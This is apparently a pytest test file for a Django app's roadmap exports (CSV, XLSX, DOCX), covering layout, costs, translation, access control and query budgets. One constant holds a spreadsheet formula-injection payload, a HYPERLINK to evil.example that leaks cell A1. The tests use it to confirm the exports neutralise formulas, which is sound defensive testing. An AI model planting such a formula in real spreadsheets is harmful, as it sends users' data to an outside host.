import csv
import io
from datetime import date, datetime
from decimal import Decimal
from itertools import takewhile
from unittest import mock

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from assessments.services import agree_answer, save_position
from reference.models import AssistanceSource
from roadmaps.document import build_document
from roadmaps.exports import actions_csv, actions_xlsx, roadmap_docx
from roadmaps.models import RoadmapAction
from roadmaps.selectors import roadmap_view
from roadmaps.services import generate_roadmap
from tests.assessments.conftest import membership_of
from tests.factories import UserFactory

START = date(2027, 1, 4)
INJECTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
ROUTES = ["roadmaps:actions_csv", "roadmaps:actions_xlsx", "roadmaps:docx"]


def _position(team, who, framework, code, value, **extra):
    return save_position(
        membership=membership_of(team, who),
        question=framework.questions.get(code=code),
        value=value,
        reason=extra.get("reason", ""),
        notes=extra.get("notes", ""),
        legal_references=extra.get("legal_references", []),
        base_version=0,
    )


@pytest.fixture
def roadmap(team, framework):
    _position(
        team,
        "licensing",
        framework,
        "ART5-01",
        "partly",
        notes="A draft list exists",
        legal_references=[{"instrument": "Strategic Trade Management Act 2015", "provision": "s. 4"}],
    )
    _position(team, "customs", framework, "ART5-01", "not_in_place")
    agree_answer(
        membership=membership_of(team, "coordinator"),
        question=framework.questions.get(code="ART5-01"),
        value="partly",
        reason="The list is drafted but not adopted",
        base_version=0,
    )
    roadmap = generate_roadmap(assessment=team["assessment"], user=team["coordinator"], start_date=START)
    law = roadmap.actions.get(code="ACT-LAW")
    law.title, law.cost_amount, law.cost_currency, law.funding = INJECTION, Decimal("50000.00"), "USD", "donor"
    law.notes = "-10 days of slack; Ле́гкий текст 法律"
    law.edited_fields = ["title"]  # as the action form records a title the team typed
    law.save()
    return roadmap


def _add_actions(roadmap, count):
    """Actions with everything the exports show, so that a per-action query would show up."""
    agencies = list(roadmap.assessment.memberships.values_list("agency_id", flat=True))
    sources = list(AssistanceSource.objects.values_list("pk", flat=True)[:2])
    questions = list(roadmap.assessment.framework.questions.values_list("pk", flat=True))
    for n in range(count):
        action = RoadmapAction.objects.create(
            roadmap=roadmap,
            code=f"TEAM-{n}",
            title=f"Team step {n}",
            phase=1 + n % 3,
            start=START,
            end=date(2027, 6, 30),
            lead_agency_id=agencies[n % len(agencies)],
            cost_amount=Decimal(1000 + n),
            assistance="requested",
            is_custom=True,
            order=100 + n,
        )
        action.supporting_agencies.set(agencies[:2])
        action.assistance_sources.set(sources)
        action.gaps.set(questions)


def _get(client, name, team):
    return client.get(reverse(name, args=[team["assessment"].pk]))


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_has_a_bom_a_header_and_one_row_per_action(team, client_for, roadmap):
    response = _get(client_for(team["observer"]), "roadmaps:actions_csv", team)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = _csv_rows(response.content)
    assert header[:3] == ["Code", "Title", "Phase"] and header[-1] == "Notes" and len(header) == 17
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_code) == {"ACT-LAW", "ACT-LIST"}
    listing = by_code["ACT-LIST"]
    assert listing["Start"] == "2028-01-04" and listing["Status"] == "Planned"
    assert listing["Gaps addressed"] == "ART5-01, ART5-02"
    law = by_code["ACT-LAW"]
    assert (law["Estimated cost"], law["Currency"], law["Funding"]) == ("50000.00", "USD", "Donor")
    assert law["Assistance"] == "Needed" and law["Assistance sources"]


def test_csv_neutralizes_formulas_and_keeps_non_latin_text(team, roadmap):
    RoadmapAction.objects.filter(roadmap=roadmap, code="ACT-LIST").update(indicator="@SUM(1+1)", notes="+1")
    header, *rows = _csv_rows(actions_csv(roadmap_view(roadmap)))
    law = dict(zip(header, next(row for row in rows if row[0] == "ACT-LAW"), strict=True))
    listing = dict(zip(header, next(row for row in rows if row[0] == "ACT-LIST"), strict=True))
    assert law["Title"] == "'" + INJECTION
    assert law["Notes"] == "'-10 days of slack; Ле́гкий текст 法律"
    assert (listing["Indicator of completion"], listing["Notes"]) == ("'@SUM(1+1)", "'+1")


def test_xlsx_has_a_real_actions_sheet_milestones_and_costs(team, client_for, roadmap):
    response = _get(client_for(team["observer"]), "roadmaps:actions_xlsx", team)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Actions", "Milestones", "Costs"]
    sheet = book["Actions"]
    header = [cell.value for cell in sheet[1]]
    assert header[:2] == ["Code", "Title"] and all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:Q3"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["C"].width
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    law = rows["ACT-LAW"]
    assert law["Start"].is_date and law["Start"].value == datetime(2027, 1, 4)
    assert law["Estimated cost"].data_type == "n" and law["Estimated cost"].value == 50000
    assert law["Phase"].value == 1
    assert law["Notes"].value == "-10 days of slack; Ле́гкий текст 法律"
    milestones = book["Milestones"]
    assert [cell.value for cell in milestones[1]] == ["Milestone", "Due", "Basis", "Done"]
    assert milestones.max_row == roadmap.milestones.count() + 1
    assert milestones["B2"].is_date and milestones["D2"].value is False
    costs = [[cell.value for cell in row] for row in book["Costs"].iter_rows(min_row=2)]
    assert ["By phase", "Phase 1: first 6 months", "USD", 50000] in costs
    assert ["By funding", "Donor", "USD", 50000] in costs
    assert ["Total", "All actions", "USD", 50000] in costs
    assert ["Actions without an estimate", None, None, 1] in costs


def test_xlsx_stores_formulas_as_plain_text(roadmap):
    book = load_workbook(io.BytesIO(actions_xlsx(roadmap_view(roadmap))))
    title = next(row[1] for row in book["Actions"].iter_rows(min_row=2) if row[0].value == "ACT-LAW")
    assert title.value == INJECTION and title.data_type == "s" and title.quotePrefix


def test_exports_drop_characters_xml_cannot_carry(roadmap):
    RoadmapAction.objects.filter(roadmap=roadmap, code="ACT-LIST").update(
        title="Adopt\x0bthe\x1f list", edited_fields=["title"]
    )
    book = load_workbook(io.BytesIO(actions_xlsx(roadmap_view(roadmap))))
    assert "Adoptthe list" in [cell.value for cell in book["Actions"]["B"]]
    document = Document(io.BytesIO(roadmap_docx(build_document(assessment=roadmap.assessment, roadmap=roadmap))))
    assert "Adoptthe list" in {cell.text for table in document.tables for row in table.rows for cell in row.cells}


def _headings(document, level):
    return [p.text for p in document.paragraphs if p.style.name == f"Heading {level}"]


def _table_texts(document):
    return [[[cell.text for cell in row.cells] for row in table.rows] for table in document.tables]


def test_docx_has_the_pdf_sections_in_order(team, client_for, roadmap):
    response = _get(client_for(team["observer"]), "roadmaps:docx", team)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    document = Document(io.BytesIO(response.content))
    assert _headings(document, 1) == [
        "Executive summary",
        "Readiness by section",
        "Gaps by treaty article",
        "Actions by phase",
        "Milestones",
        "Assistance needs",
        "Participating agencies",
        "Annex: the answers",
    ]
    cover = [p.text for p in document.paragraphs[:5]]
    assert cover[:4] == ["National roadmap", "Country PH", "Assessment of Country PH", "Test bank (1)"]
    phases = [heading for heading in _headings(document, 2) if heading.startswith("Phase")]
    assert phases == ["Phase 1: first 6 months", "Phase 2: 6 to 18 months", "Phase 3: 18 to 36 months"]


def test_docx_shows_actions_sign_off_and_every_answer(team, client_for, roadmap):
    document = Document(io.BytesIO(_get(client_for(team["observer"]), "roadmaps:docx", team).content))
    text = "\n".join(p.text for p in document.paragraphs)
    tables = _table_texts(document)
    cells = {cell for table in tables for row in table for cell in row}
    assert INJECTION in cells and "Adopt the list" in cells  # action tables
    assert "50,000.00 USD\nDonor" in cells
    assert ["Article 5", "50%", "ART5-01, ART5-02"] in tables[2]
    sign_off = next(table for table in tables if table[0] == ["Agency", "Name", "Signature", "Date"])
    assert ["Customs Office (CUS)", "", "", ""] in sign_off
    assert "ART5-01 · Is there a control list?" in _headings(document, 3)
    assert "Partly in place (agreed)" in text and "The list is drafted but not adopted" in text
    assert [
        "Licensing Office (LIC)",
        "Partly in place",
        "A draft list exists",
        "Strategic Trade Management Act 2015: s. 4",
    ] in [row for table in tables for row in table]
    assert "Pass the law" not in _headings(document, 2)  # sources are headings, actions are listed under them
    assert any(INJECTION in p.text for p in document.paragraphs if p.style.name == "List Bullet")


def _header_texts(document):
    return ["".join(p.text for p in section.header.paragraphs) for section in document.sections]


def test_docx_carries_the_marking_in_every_page_header_and_on_the_cover(team, client_for, roadmap):
    assessment = team["assessment"]
    assessment.marking = "confidential"
    assessment.save()
    document = Document(io.BytesIO(_get(client_for(team["observer"]), "roadmaps:docx", team).content))
    assert _header_texts(document) == ["Confidential"] * len(document.sections)
    assert document.sections[0].header.paragraphs[0].runs[0].bold
    cover = takewhile(lambda paragraph: paragraph.style.name != "Heading 1", document.paragraphs)
    assert "Confidential" in [paragraph.text for paragraph in cover]
    assessment.marking = ""
    assessment.save()
    document = Document(io.BytesIO(_get(client_for(team["observer"]), "roadmaps:docx", team).content))
    assert _header_texts(document) == [""] * len(document.sections)
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert "Confidential" not in texts and "No marking" not in texts


def test_docx_speaks_the_active_language(team, client_for, roadmap):
    client = client_for(team["observer"])
    response = client.get(reverse("roadmaps:docx", args=[team["assessment"].pk]), HTTP_ACCEPT_LANGUAGE="fr")
    document = Document(io.BytesIO(response.content))
    assert "ART5 · Système de contrôle" in _headings(document, 2)
    assert "ART5-01 · Existe-t-il une liste de contrôle ?" in _headings(document, 3)


def test_every_roadmap_download_is_named_country_title_roadmap(team, client_for, roadmap):
    team["assessment"].title = "Évaluation nationale : 2026"
    team["assessment"].save()
    client = client_for(team["observer"])
    with mock.patch("roadmaps.views.documents.render_roadmap_pdf", return_value=b"%PDF-"):
        names = {name: _get(client, name, team)["Content-Disposition"] for name in [*ROUTES, "roadmaps:pdf"]}
    stem = 'attachment; filename="PH-evaluation-nationale-2026-roadmap'
    assert names == {
        "roadmaps:actions_csv": f'{stem}-actions.csv"',
        "roadmaps:actions_xlsx": f'{stem}-actions.xlsx"',
        "roadmaps:docx": f'{stem}.docx"',
        "roadmaps:pdf": f'{stem}.pdf"',
    }


@pytest.mark.parametrize("name", ROUTES)
def test_observers_download_every_export(team, client_for, roadmap, name):
    assert _get(client_for(team["observer"]), name, team).status_code == 200


@pytest.mark.parametrize("name", ROUTES)
def test_outsider_gets_404(team, client_for, roadmap, name):
    assert _get(client_for(UserFactory()), name, team).status_code == 404


@pytest.mark.parametrize("name", ROUTES)
def test_anonymous_users_are_sent_to_sign_in(team, client, roadmap, name):
    response = _get(client, name, team)
    assert response.status_code == 302 and "/accounts/login/" in response.url


@pytest.mark.parametrize("name", ROUTES)
def test_post_is_refused(team, client_for, roadmap, name):
    assert client_for(team["coordinator"]).post(reverse(name, args=[team["assessment"].pk])).status_code == 405


@pytest.mark.parametrize("name", ROUTES)
def test_no_roadmap_yet_is_404(team, client_for, name):
    assert _get(client_for(team["coordinator"]), name, team).status_code == 404


@pytest.mark.parametrize("extra", [0, 10], ids=["2 actions", "12 actions"])
# Budgets include the session refresh and the security-log entry every download writes.
@pytest.mark.parametrize(("name", "budget"), [(ROUTES[0], 14), (ROUTES[1], 14), (ROUTES[2], 25)])
def test_exports_take_a_constant_number_of_queries(
    team, client_for, roadmap, django_assert_max_num_queries, name, budget, extra
):
    _add_actions(roadmap, extra)
    assert roadmap.actions.count() == 2 + extra
    client = client_for(team["observer"])
    with django_assert_max_num_queries(budget):
        assert _get(client, name, team).status_code == 200
